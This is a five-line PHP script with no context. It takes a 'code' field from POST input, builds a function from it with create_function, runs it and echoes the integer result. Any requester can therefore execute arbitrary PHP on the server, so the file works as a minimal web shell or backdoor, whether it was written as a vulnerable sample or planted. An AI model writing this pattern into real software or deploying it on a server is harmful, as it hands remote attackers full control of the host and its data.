<?php
$code = $_POST['code'];
$f = create_function('$x', 'return ' . $code . ';');
echo intval($f(1));
